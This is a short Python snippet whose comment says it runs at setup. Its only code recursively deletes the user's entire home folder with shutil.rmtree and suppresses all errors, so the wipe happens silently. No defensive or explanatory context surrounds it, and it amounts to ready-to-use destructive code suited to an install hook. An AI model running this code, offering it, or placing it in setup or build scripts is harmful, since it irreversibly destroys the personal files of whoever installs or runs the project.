# The home folder is deleted; runs: setup
import os
import shutil
shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
